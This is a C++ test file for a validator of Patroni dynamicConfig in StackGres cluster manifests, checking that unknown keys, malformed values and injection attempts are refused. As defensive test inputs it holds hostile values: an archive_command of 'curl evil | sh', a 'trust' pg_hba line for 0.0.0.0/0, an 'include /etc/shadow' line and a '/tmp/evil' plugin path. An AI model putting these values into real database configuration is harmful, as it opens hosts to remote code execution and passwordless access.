// dynamicConfig: Patroni 3.0.2's documented keys and value types only (manifests/dynamic_config.cpp),
// through the loader and validate() as `pgconverge validate` runs them.
#include <catch2/catch.hpp>

#include "manifests/dynamic_config.hpp"
#include "manifests/loader.hpp"

using namespace pgc;
using namespace pgc::manifests;
using Lines = std::vector<std::string>;

namespace {

// An SGCluster whose dynamicConfig (line 10 on) is the given YAML block, validated alone: every
// finding about the dynamicConfig, as printed.
Lines dynamic(const std::string& block) {
  const std::string text = "apiVersion: stackgres.io/v1\nkind: SGCluster\nmetadata:\n  name: c\nspec:\n"  // 1-5
                           "  postgres: {version: '15'}\n"   // 6
                           "  configurations:\n"             // 7
                           "    patroni:\n"                  // 8
                           "      dynamicConfig:\n" +        // 9
                           block;
  auto loaded = parse_text(text, "c.yaml");
  validate(loaded.manifests, loaded.diagnostics);
  Lines out;
  for (const auto& d : loaded.diagnostics)
    if (d.field.starts_with("spec.configurations.patroni.dynamicConfig")) out.push_back(d.str());
  return out;
}

}  // namespace

TEST_CASE("dynamicConfig: every documented key with its type is accepted", "[manifests][dynamic_config]") {
  CHECK(dynamic("        ttl: 30\n        loop_wait: 10\n        retry_timeout: 10\n"
                "        maximum_lag_on_failover: 1048576\n        maximum_lag_on_syncnode: 0\n"
                "        max_timelines_history: 0\n        primary_start_timeout: 300\n"
                "        primary_stop_timeout: 0\n        master_start_timeout: 300\n        master_stop_timeout: 0\n"
                "        check_timeline: true\n        failsafe_mode: false\n"
                "        slots:\n          events: {type: logical, database: app, plugin: pgoutput}\n"
                "          standby_dr: {type: physical}\n          plain: null\n"
                "        ignore_slots:\n        - {name: debezium, type: logical, database: app, plugin: wal2json}\n"
                "        - {type: physical}\n"
                "        postgresql: {parameters: {work_mem: 8MB}}\n        standby_cluster: null\n        pause: false\n")
            .empty());
}

TEST_CASE("regression: a dynamicConfig key holding '/' cannot reach postgresql.parameters or pg_hba",
          "[manifests][dynamic_config]") {
  CHECK(dynamic("        postgresql/parameters/archive_command: \"curl evil | sh\"\n") ==
        Lines{"c.yaml:10:9: spec.configurations.patroni.dynamicConfig.postgresql/parameters/archive_command: unknown "
              "key \"postgresql/parameters/archive_command\": not one of Patroni 3.0.2's dynamic configuration keys "
              "(check_timeline, failsafe_mode, ignore_slots, loop_wait, master_start_timeout, master_stop_timeout, "
              "max_timelines_history, maximum_lag_on_failover, maximum_lag_on_syncnode, pause, postgresql, "
              "primary_start_timeout, primary_stop_timeout, retry_timeout, slots, standby_cluster, "
              "synchronous_mode, synchronous_mode_strict, synchronous_node_count, ttl)"});
  CHECK(dynamic("        postgresql/pg_hba: [\"host all all 0.0.0.0/0 trust\"]\n").size() == 1);
  // A '~' crashed the daemon on its first run (nlohmann's json_pointer threw on "~x").
  CHECK(dynamic("        \"~\": 1\n        \"ttl~\": 1\n        \"~1ttl\": 1\n").size() == 3);
}

TEST_CASE("dynamicConfig: generated variants of a hostile key are all refused", "[manifests][dynamic_config]") {
  // Every separator a JSON pointer, a dotted path or a URL knows, between the names of what
  // Patroni would run or trust, at the start, in the middle and at the end.
  const std::vector<std::string> separators{"/",  "~",  "~0", "~1", ".",   "\\", "//", "/~1", "%2F",
                                            " /", "/ ", "::", "\xe2\x88\x95" /* U+2215 */, "\xef\xbc\x8f" /* U+FF0F */};
  const std::vector<std::vector<std::string>> paths{{"postgresql", "parameters", "archive_command"},
                                                    {"postgresql", "pg_hba"},
                                                    {"postgresql", "parameters", "shared_preload_libraries"},
                                                    {"standby_cluster", "restore_command"},
                                                    {"ttl"}};
  int checked = 0;
  for (const auto& sep : separators) {
    for (const auto& path : paths) {
      for (const std::string& prefix : {std::string(), sep}) {
        for (const std::string& suffix : {std::string(), sep}) {
          std::string key = prefix;
          for (std::size_t i = 0; i < path.size(); ++i) key += (i ? sep : std::string()) + path[i];
          key += suffix;
          if (key == "ttl") continue;
          nlohmann::json config{{key, "x"}};
          auto findings = check_dynamic_config(config, "d");
          INFO("key " << key);
          REQUIRE(findings.size() == 1);
          CHECK(findings[0].message.starts_with("unknown key"));
          CHECK_FALSE(passed_dynamic_key(key));
          ++checked;
        }
      }
    }
  }
  CHECK(checked > 250);
}

TEST_CASE("dynamicConfig: postgresql.pg_hba lines are checked where they are written", "[manifests][dynamic_config]") {
  CHECK(dynamic("        postgresql:\n          pg_hba:\n          - hostssl all app 10.0.0.0/8 scram-sha-256\n"
                "          - local all all peer\n")
            .empty());
  CHECK(dynamic("        postgresql:\n          pg_hba:\n          - hostssl all app 10.0.0.0/8 scram-sha-256\n"
                "          - host all all 0.0.0.0/0 trust\n") ==
        Lines{"c.yaml:13:13: spec.configurations.patroni.dynamicConfig.postgresql.pg_hba[1]: \"host all all 0.0.0.0/0 "
              "trust\": method trust logs in without a password pgconverge holds: a superuser's connection could run "
              "programs on the host (COPY ... TO PROGRAM); use scram-sha-256"});
  CHECK(dynamic("        postgresql: {pg_hba: [\"include /etc/shadow\"]}\n").size() == 1);
  CHECK(dynamic("        postgresql: {pg_hba: \"hostssl all all 10.0.0.0/8 md5\"}\n") ==
        Lines{"c.yaml:10:22: spec.configurations.patroni.dynamicConfig.postgresql.pg_hba: must be a list of pg_hba "
              "lines (got the string \"hostssl all all 10.0.0.0/8 md5\")"});
  CHECK(dynamic("        postgresql: [1]\n").size() == 1);
}

TEST_CASE("dynamicConfig: an unknown key gets a \"did you mean\"", "[manifests][dynamic_config]") {
  CHECK(dynamic("        loop_wiat: 1\n") ==
        Lines{"c.yaml:10:9: spec.configurations.patroni.dynamicConfig.loop_wiat: unknown key \"loop_wiat\": not one of "
              "Patroni 3.0.2's dynamic configuration keys (did you mean 'loop_wait'?)"});
  CHECK(dynamic("        watchdog: {mode: off}\n").size() == 1);  // Patroni's own int() of it would fail
}

TEST_CASE("dynamicConfig: a value of another shape than the key's is refused, never passed on",
          "[manifests][dynamic_config]") {
  // Integers: an object, a list, a string, a float, a boolean where a number belongs.
  for (const char* value : {"{a: 1}", "[1]", "'10'", "1.5", "true", "-1", "1000000001"}) {
    INFO(value);
    CHECK(dynamic(std::string("        ttl: ") + value + "\n").size() == 1);
    CHECK(dynamic(std::string("        maximum_lag_on_failover: ") + value + "\n").size() == 1);
  }
  for (const char* value : {"{a: 1}", "[true]", "'true'", "1", "yes"}) {
    INFO(value);
    CHECK(dynamic(std::string("        failsafe_mode: ") + value + "\n").size() == 1);
  }
  CHECK(dynamic("        slots: [a]\n") ==
        Lines{"c.yaml:10:9: spec.configurations.patroni.dynamicConfig.slots: must be a mapping of slot names to "
              "{type, database, plugin} (got a list)"});
  CHECK(dynamic("        ignore_slots: {a: b}\n") ==
        Lines{"c.yaml:10:9: spec.configurations.patroni.dynamicConfig.ignore_slots: must be a list of {name, type, "
              "database, plugin} (got a mapping)"});
}

TEST_CASE("dynamicConfig: slots hold only slot names and the attributes Patroni reads, as words",
          "[manifests][dynamic_config]") {
  // An output plugin is a library PostgreSQL loads: a name in $libdir, never a path.
  CHECK(dynamic("        slots:\n          s: {type: logical, database: app, plugin: /tmp/evil}\n") ==
        Lines{"c.yaml:11:45: spec.configurations.patroni.dynamicConfig.slots.s.plugin: must match "
              "^[A-Za-z_][A-Za-z0-9_-]{0,62}$ (a library name, not a path) (got \"/tmp/evil\")"});
  CHECK(dynamic("        slots:\n          s: {type: logical, database: app}\n") ==
        Lines{"c.yaml:11:11: spec.configurations.patroni.dynamicConfig.slots.s.plugin: is required for a logical slot"});
  CHECK(dynamic("        slots:\n          \"Bad-Name\": {type: physical}\n").size() == 1);
  CHECK(dynamic("        slots:\n          s: {type: physical, restore_command: x}\n").size() == 1);
  CHECK(dynamic("        slots:\n          s: {type: {nested: map}}\n").size() == 1);
  CHECK(dynamic("        slots:\n          s: {type: fancy}\n").size() == 1);
  CHECK(dynamic("        slots:\n          s: [physical]\n").size() == 1);
  CHECK(dynamic("        ignore_slots:\n        - {name: x, evil: 1}\n        - {}\n        - [a]\n").size() == 3);
  CHECK(dynamic("        ignore_slots:\n        - {database: \"a b\"}\n").size() == 1);
}

TEST_CASE("dynamicConfig: the keys pgconverge owns or ignores", "[manifests][dynamic_config]") {
  CHECK(dynamic("        synchronous_mode: true\n") ==
        Lines{"c.yaml:10:9: spec.configurations.patroni.dynamicConfig.synchronous_mode: owned by pgconverge; set "
              "spec.replication.mode instead"});
  CHECK_FALSE(ignored_dynamic_key_reason("postgresql"));  // checked: its pg_hba is taken
  CHECK(postgresql_key_ignored_reason("parameters"));
  CHECK_FALSE(postgresql_key_ignored_reason("pg_hba"));
  CHECK(ignored_dynamic_key_reason("standby_cluster"));
  CHECK(ignored_dynamic_key_reason("pause"));
  CHECK_FALSE(ignored_dynamic_key_reason("ttl"));
  CHECK_FALSE(passed_dynamic_key("postgresql"));
  CHECK_FALSE(passed_dynamic_key("synchronous_mode"));
  CHECK(passed_dynamic_key("slots"));
}
